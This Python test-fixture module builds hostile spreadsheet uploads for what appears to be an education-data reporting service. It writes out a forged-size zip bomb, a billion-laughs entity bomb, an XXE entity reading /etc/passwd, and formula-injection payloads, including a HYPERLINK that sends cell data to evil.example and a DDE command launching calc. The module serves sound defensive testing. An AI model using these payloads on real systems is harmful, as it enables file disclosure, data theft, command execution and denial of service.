"""Hand-built .xlsx files an attacker or a careless user might upload (no openpyxl: it refuses to
write most of them). Each builder returns bytes; `hostile_workbooks()` names the set the upload
tests feed to every endpoint."""

from __future__ import annotations

import io
import subprocess
import sys
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    "{overrides}</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def _cell(ref: str, value) -> str:
    if value is None:
        return ""
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(str(value))}</t></is></c>'


def _col(i: int) -> str:
    return "ABCDEFGHIJ"[i]


def sheet_xml(rows, *, prolog: str = "") -> bytes:
    """Worksheet XML for an iterable of rows (each a list of cell values), streamed into bytes."""
    out = io.StringIO()
    out.write(f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet {NS}><sheetData>')
    for n, row in enumerate(rows, start=1):
        out.write(f'<row r="{n}">')
        out.write("".join(_cell(f"{_col(i)}{n}", v) for i, v in enumerate(row)))
        out.write("</row>")
    out.write("</sheetData></worksheet>")
    return out.getvalue().encode()


def xlsx(sheets: dict[str, bytes], *, extra: dict[str, bytes] | None = None, level: int = 6) -> bytes:
    """Assemble a workbook from {sheet name: worksheet XML}."""
    names = list(sheets)
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(1, len(names) + 1)
    )
    workbook = (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook {NS} {R_NS}><sheets>'
        + "".join(f'<sheet name="{escape(n)}" sheetId="{i}" r:id="rId{i}"/>' for i, n in enumerate(names, 1))
        + "</sheets></workbook>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(
            f'<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            f'relationships/worksheet" Target="worksheets/sheet{i}.xml"/>'
            for i in range(1, len(names) + 1)
        )
        + "</Relationships>"
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES.format(overrides=overrides))
        zf.writestr("_rels/.rels", ROOT_RELS)
        zf.writestr("xl/workbook.xml", workbook)
        zf.writestr("xl/_rels/workbook.xml.rels", rels)
        for i, name in enumerate(names, 1):
            zf.writestr(f"xl/worksheets/sheet{i}.xml", sheets[name])
        for path, data in (extra or {}).items():
            zf.writestr(path, data)
    return buf.getvalue()


def header_rows(year: int = 2020):
    return [["泽州县 2020年 教育投入 数据填报表"], ["代码", "数据项", "单位", f"{year}年填报值", "", "说明"]]


def meta_sheet(region: str = "140525", year: int = 2020) -> bytes:
    return sheet_xml([["区域代码", region], ["区域名称", "泽州县"], ["数据年度", year]])


def million_bad_rows(n: int = 1_000_000) -> bytes:
    """The workbook of the issue: ~11 MB, a million rows, each an unknown code with junk as value."""

    def rows():
        yield from header_rows()
        for i in range(n):
            yield [f"bad_{i}", "x", "", "=HYPERLINK(\"http://evil\")"]

    return xlsx({"填写说明": meta_sheet(), "教育投入": sheet_xml(rows())})


def formula_rows() -> bytes:
    """Unknown codes and values that are formulas when written back by a careless exporter."""
    payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
                "@SUM(1+1)", "\t=1+1", "\r=1+1"]
    rows = header_rows() + [[p, "x", "", p] for p in payloads] + [["enrol_primary", "", "", p] for p in payloads[:1]]
    return xlsx({"填写说明": meta_sheet(), "教育投入": sheet_xml(rows)})


def forged_size() -> bytes:
    """A sheet whose zip headers claim 100 bytes while the member inflates to 64 MB."""
    big = sheet_xml(header_rows() + [["x" * 60]] * 1000) + b" " * (64 * 1024 * 1024)
    data = bytearray(xlsx({"填写说明": meta_sheet(), "教育投入": big}, level=9))
    name = b"xl/worksheets/sheet2.xml"
    real = len(big).to_bytes(4, "little")
    forged = (100).to_bytes(4, "little")
    # local file header: uncompressed size at offset 22; central directory: at offset 24
    pos = 0
    while (pos := data.find(b"PK\x03\x04", pos)) >= 0:
        if data[pos + 30: pos + 30 + len(name)] == name and data[pos + 22: pos + 26] == real:
            data[pos + 22: pos + 26] = forged
        pos += 4
    pos = 0
    while (pos := data.find(b"PK\x01\x02", pos)) >= 0:
        if data[pos + 46: pos + 46 + len(name)] == name and data[pos + 24: pos + 28] == real:
            data[pos + 24: pos + 28] = forged
        pos += 4
    return bytes(data)


def truncated() -> bytes:
    good = xlsx({"填写说明": meta_sheet(), "教育投入": sheet_xml(header_rows() + [["enrol_primary", "", "", 1]])})
    return good[: len(good) * 2 // 3]


def truncated_xml() -> bytes:
    """A well-formed zip whose sheet XML stops in the middle of a row."""
    xml = sheet_xml(header_rows() + [["enrol_primary", "", "", 1]])
    return xlsx({"填写说明": meta_sheet(), "教育投入": xml[: len(xml) - 40]})


def billion_laughs() -> bytes:
    dtd = '<!DOCTYPE worksheet [<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10)
    ) + "]>"
    xml = sheet_xml(header_rows() + [["enrol_primary", "", "", "&lol9;"]], prolog=dtd)
    return xlsx({"填写说明": meta_sheet(), "教育投入": xml.replace(b"&amp;lol9;", b"&lol9;")})


def xxe() -> bytes:
    dtd = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    xml = sheet_xml(header_rows() + [["enrol_primary", "", "", "&xxe;"]], prolog=dtd)
    return xlsx({"填写说明": meta_sheet(), "教育投入": xml.replace(b"&amp;xxe;", b"&xxe;")})


def huge_numbers() -> bytes:
    rows = header_rows() + [
        ["enrol_primary", "", "", "1E+30"],
        ["enrol_junior", "", "", 1e300],
        ["edu_exp_budget", "", "", "9" * 5000],
        ["edu_exp_fiscal", "", "", "NaN"],
        ["gdp", "", "", "Infinity"],
        ["gen_budget_exp", "", "", "1e-30"],
    ]
    return xlsx({"填写说明": meta_sheet(), "教育投入": sheet_xml(rows)})


def hostile_workbooks() -> dict[str, bytes]:
    return {
        "forged-size.xlsx": forged_size(),
        "truncated.xlsx": truncated(),
        "truncated-xml.xlsx": truncated_xml(),
        "laughs.xlsx": billion_laughs(),
        "xxe.xlsx": xxe(),
        "rows-50k.xlsx": million_bad_rows(50_000),
    }


TOOL = Path(__file__).resolve().parents[3] / "shared" / "tools" / "make-bad-inputs.py"


def bad_inputs(directory: Path) -> dict[str, Path]:
    """Run ../shared/tools/make-bad-inputs.py into `directory` (thirteen files) and add ours."""
    import pytest

    if not TOOL.exists():
        pytest.skip(f"{TOOL} is not available")
    subprocess.run([sys.executable, str(TOOL), str(directory)], check=True, capture_output=True)
    for name, data in hostile_workbooks().items():
        (directory / name).write_bytes(data)
    return {p.name: p for p in sorted(directory.iterdir())}
